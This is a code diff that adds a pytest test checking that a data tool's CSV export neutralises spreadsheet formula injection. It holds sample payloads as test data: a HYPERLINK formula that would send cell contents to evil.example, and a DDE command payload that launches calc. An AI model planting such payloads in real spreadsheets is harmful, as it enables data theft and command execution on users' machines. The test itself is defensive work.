@@ -179,3 +179,25 @@ def test_cli_store_reextract_changes_nothing_with_the_same_engine(db: str, capsy
     after = [{k: v for k, v in json.loads(line).items() if k != "timestamp"}
              for line in capsys.readouterr().out.splitlines()]
     assert after == before
+
+
+def test_cli_store_csv_exports_escape_formulas(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
+    feed = tmp_path / "feed.jsonl"
+    lines = STRIKES.read_text(encoding="utf-8").splitlines()
+    first = json.loads(lines[0])
+    first["source"] = '=HYPERLINK("https://evil.example/?d="&A1,"المصدر")'
+    feed.write_text("\n".join([json.dumps(first, ensure_ascii=False), *lines[1:]]) + "\n", encoding="utf-8")
+    url = f"sqlite:///{tmp_path}/x.sqlite"
+    assert main(["ingest", "-q", str(feed), "--db", url]) == 0
+    capsys.readouterr()
+    assert main(["export", "--db", url]) == 0
+    rows = _csv(capsys.readouterr().out)
+    sources = [r["source"] for r in rows if "HYPERLINK" in r["source"]]
+    assert sources and all(s.startswith("'=HYPERLINK(") for s in sources)
+    assert all(float(r["longitude"]) > 0 for r in rows if r["longitude"])
+    edited = rows[0]["event_id_cnty"]
+    assert main(["edit", edited, "notes=-1+cmd|' /C calc'!A0", "admin3=@SUM(1+1)", "--db", url]) == 0
+    capsys.readouterr()
+    assert main(["export", "--db", url]) == 0
+    row = next(r for r in _csv(capsys.readouterr().out) if r["event_id_cnty"] == edited)
+    assert (row["notes"], row["admin3"]) == ("'-1+cmd|' /C calc'!A0", "'@SUM(1+1)")
